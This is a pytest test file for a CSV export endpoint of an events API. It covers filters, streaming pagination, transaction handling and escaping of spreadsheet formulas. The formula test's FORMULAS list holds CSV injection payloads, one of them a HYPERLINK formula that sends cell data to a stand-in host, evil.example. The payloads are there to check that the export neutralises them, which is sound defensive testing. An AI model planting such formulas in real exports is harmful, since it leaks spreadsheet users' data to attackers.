"""`GET /api/events/export`: the list's filters as a CSV file streamed in keyset pages."""
from __future__ import annotations

import csv
import io
import json
from datetime import datetime, timedelta, timezone

import sqlalchemy as sa

from app.extensions import database, db
from app.services.events import EventFilter, iter_events
from tests.helpers import make_partitions, post_event, wait_until

UTC = timezone.utc
DAY0 = datetime(2025, 10, 20, tzinfo=UTC)


def insert_events(app, count: int, user_id: int = 7) -> None:
    """Many events in one statement, a second apart from DAY0, every third on `/home`."""
    make_partitions(app, DAY0, DAY0 + timedelta(seconds=count + 1))
    with app.app_context():
        db.session.execute(sa.text("""
            INSERT INTO events (id, user_id, action, metadata, occurred_at)
            SELECT gen_random_uuid(), :user_id, CASE WHEN n % 2 = 0 THEN 'click' ELSE 'page_view' END,
                   jsonb_build_object('page', CASE WHEN n % 3 = 0 THEN '/home' ELSE '/p/' || n END, 'n', n),
                   :start + n * interval '1 second'
            FROM generate_series(1, :count) AS n
        """), {"user_id": user_id, "start": DAY0, "count": count})
        db.session.commit()


def read_csv(body: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(body.decode("utf-8"))))


def test_export_is_an_attachment_with_every_column(client):
    stored = post_event(client, user_id=5, action="signup", occurred_at="2025-10-20T13:07:00Z",
                        metadata={"x": "<b>, \"quoted\"\nline", "nested": {"a": [1, 2]}}).get_json()
    response = client.get("/api/events/export")
    assert response.status_code == 200
    assert response.mimetype == "text/csv"
    assert response.headers["Content-Disposition"].startswith('attachment; filename="events-')
    text = response.get_data(as_text=True)
    assert text.splitlines()[0] == "id,user_id,action,occurred_at,received_at,metadata"
    [row] = read_csv(response.data)
    assert row["id"] == stored["id"]
    assert row["user_id"] == "5"
    assert row["action"] == "signup"
    assert row["occurred_at"] == "2025-10-20T13:07:00.000000Z"
    assert row["received_at"] == stored["received_at"]
    assert json.loads(row["metadata"]) == {"x": "<b>, \"quoted\"\nline", "nested": {"a": [1, 2]}}


def test_export_takes_the_same_filters_as_the_list(app, client):
    insert_events(app, 30, user_id=7)
    insert_events(app, 5, user_id=8)
    query = "user_id=7&action=click&meta.page=/home&from=2025-10-20T00:00:10Z&till=2025-10-20T00:00:25Z"
    listed = client.get(f"/api/events?{query}").get_json()["events"]
    exported = read_csv(client.get(f"/api/events/export?{query}").data)
    assert [row["id"] for row in exported] == [event["id"] for event in listed]
    assert [json.loads(row["metadata"])["n"] for row in exported] == [12, 18, 24]


def test_export_of_nothing_is_just_the_header(client):
    response = client.get("/api/events/export?user_id=999")
    assert response.status_code == 200
    assert response.get_data(as_text=True) == "id,user_id,action,occurred_at,received_at,metadata\r\n"


def test_export_refuses_paging_and_bad_filters_with_the_error_envelope(client):
    for query, field in (("limit=10", "limit"), ("cursor=abc", "cursor"), ("user_id=-1", "user_id"),
                         ("from=2025-02-30T00:00:00Z", "from"), ("colour=red", "colour")):
        response = client.get(f"/api/events/export?{query}")
        assert response.status_code == 400, query
        assert response.get_json()["error"]["field"] == field


def idle_in_transaction(app) -> list[str]:
    """Backends of the test database, other than ours, holding a transaction open while doing nothing."""
    with app.app_context():
        states = db.session.execute(sa.text("""
            SELECT application_name || ' ' || left(query, 60) FROM pg_stat_activity
            WHERE datname = current_database() AND pid <> pg_backend_pid()
              AND state LIKE 'idle in transaction%'
        """)).scalars().all()
        db.session.rollback()
    return states


def test_a_large_export_streams_in_chunks_without_holding_a_transaction(app, client):
    insert_events(app, 3000)
    response = client.get("/api/events/export?user_id=7", buffered=False)
    try:
        assert response.status_code == 200
        assert response.is_streamed
        chunks = iter(response.response)
        first = next(chunks)
        assert first.startswith(b"id,user_id,action")
        assert len(first) < 100 * 1024, "the first chunk must not hold the whole file"
        body = first + b"".join(chunks)
    finally:
        response.close()
    rows = read_csv(body)
    assert len(rows) == 3000
    times = [row["occurred_at"] for row in rows]
    assert times == sorted(times)
    assert times[0] == "2025-10-20T00:00:01.000000Z"
    assert times[-1] == (DAY0 + timedelta(seconds=3000)).strftime("%Y-%m-%dT%H:%M:%S.000000Z")
    assert len({row["id"] for row in rows}) == 3000


def test_a_client_that_stops_reading_an_export_holds_no_transaction(app, client):
    """A slow or stalled reader of a big export keeps no backend `idle in transaction` (nor a pooled
    connection) while its response waits: every page is a short read of its own."""
    insert_events(app, 3000)
    response = client.get("/api/events/export?user_id=7", buffered=False)
    chunks = iter(response.response)
    try:
        first = next(chunks)  # then the client stops reading
        wait_until(lambda: not idle_in_transaction(app), timeout=3,
                   what="no backend idle in transaction while the export waits for its reader")
        with app.app_context():
            assert db.engine.pool.checkedout() == 0, "the paused export must not hold a pooled connection"
        body = first + b"".join(chunks)  # the reader comes back: the export goes on where it stopped
    finally:
        response.close()
    assert len(read_csv(body)) == 3000


def test_iter_events_reads_batch_size_rows_a_page_in_time_order(app):
    """The export's pages are what it asks for: `batch_size` rows each (one more to know a page follows),
    read one page ahead of the rows yielded, never everything at once."""
    insert_events(app, 25)
    limits: list[int] = []

    def note_limit(_conn, _cursor, statement, parameters, _context, _many) -> None:
        if "FROM events" in statement and " LIMIT " in statement:
            name = statement.rsplit("LIMIT", 1)[1].split("%(", 1)[1].split(")s", 1)[0]  # LIMIT %(param_n)s
            limits.append(parameters[name])

    with app.app_context():
        engine = database().read_engine
        sa.event.listen(engine, "before_cursor_execute", note_limit)
        try:
            events = iter_events(database(), EventFilter(user_id=7, action="page_view"), batch_size=4)
            first = next(events)
            assert len(limits) == 1, "the first event leaves after one page, not after reading every row"
            rest = list(events)
        finally:
            sa.event.remove(engine, "before_cursor_execute", note_limit)
    assert len([first, *rest]) == 13
    assert limits == [5] * 4  # pages of 4 (+1 to see a next page): 4, 4, 4 and the last 1
    times = [event.occurred_at for event in [first, *rest]]
    assert times == sorted(times)


FORMULAS = ("=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1")


def test_formula_cells_are_neutralised_in_the_api_and_dashboard_exports(client):
    """A spreadsheet opening either export shows each action as text and evaluates none of them."""
    for index, action in enumerate((*FORMULAS, "page_view", "a=b", "it's fine")):
        assert post_event(client, user_id=42, action=action, metadata={"formula": "=1+1"},
                          occurred_at=f"2025-10-20T10:00:{index:02d}Z").status_code == 201
    for url in ("/api/events/export?user_id=42", "/events/export?user_id=42"):
        response = client.get(url)
        assert response.status_code == 200, url
        text = response.get_data(as_text=True)
        rows = read_csv(response.data)
        assert [row["action"] for row in rows] == [*("'" + action for action in FORMULAS),
                                                   "page_view", "a=b", "it's fine"], url
        for line in text.split("\r\n")[1:-1]:
            cells = next(csv.reader([line]))
            assert not cells[2].startswith(("=", "+", "-", "@", "\t", "\r")), line
        # every text cell is quoted, so a separator inside one cannot split it in any spreadsheet
        assert '"\'=HYPERLINK(""http://evil.example/?""&A1,""x"")"' in text
        assert all(json.loads(row["metadata"]) == {"formula": "=1+1"} for row in rows)
